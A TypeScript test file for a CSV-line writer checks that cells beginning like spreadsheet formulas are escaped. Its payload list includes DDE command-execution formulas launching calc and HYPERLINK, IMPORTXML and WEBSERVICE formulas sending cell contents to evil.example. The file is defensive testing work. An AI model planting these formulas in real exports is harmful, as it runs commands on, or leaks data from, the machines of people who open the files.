import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvLine } from './csv.ts';

test('keeps a spreadsheet from running a text as a formula', () => {
  assert.equal(csvLine(['=1+1', '+1', '-1', '@x', '\tx', '\rx']), `'=1+1,'+1,'-1,'@x,'\tx,"'\rx"\r\n`);
});

/** What people have put into cells to make a spreadsheet run it. */
const FORMULAS = [
  '=1+1',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("http://evil.example?x="&A1,"open")',
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  '=SUM(A1:A9)',
  '= 1',
  '=-1',
  '==1',
  '+1',
  '+cmd|"/C calc"!A0',
  '+SUM(1,1)',
  '+44 20 7946 0000',
  '++1',
  '-1',
  '-2+3+cmd|"/C calc"!A0',
  '--1',
  '-@SUM(1)',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '@A1',
  '@',
  '=',
  '+',
  '-',
  '\t=1+1',
  '\t',
  '\r=1+1',
  '\r\n=1+1',
  '\n=1+1',
  '\0=1+1',
  '\0',
  '=1,2',
  '="a"',
  '=1\n=2',
  "=1'",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];

test('begins none of forty formula payloads as a formula, in any kind of cell', () => {
  assert.equal(FORMULAS.length, 40);
  for (const payload of FORMULAS) {
    const cells: readonly unknown[] = [payload, [payload], [payload, 'x']];
    for (const cell of cells) {
      const line = csvLine([cell, 'next']);
      const text = line.startsWith('"') ? line.slice(1) : line;
      assert.ok(text.startsWith("'"), JSON.stringify(line));
      assert.ok(line.endsWith(',next\r\n'), JSON.stringify(line));
    }
  }
});

test('leaves negative numbers as numbers', () => {
  assert.equal(csvLine([-1.5, 0, null, undefined, true]), '-1.5,0,,,true\r\n');
});

test('quotes what would break a line and doubles quotes', () => {
  assert.equal(
    csvLine(['a,b', 'say "hi"', 'two\nlines', ' edge ']),
    '"a,b","say ""hi""","two\nlines"," edge "\r\n',
  );
});

test('joins lists and writes objects as JSON', () => {
  assert.equal(
    csvLine([['a.example', 'b.example'], { region: 'EMEA' }]),
    'a.example; b.example,"{""region"":""EMEA""}"\r\n',
  );
});

test('guards a list whose first item begins like a formula', () => {
  assert.equal(csvLine([['=cmd']]), "'=cmd\r\n");
});
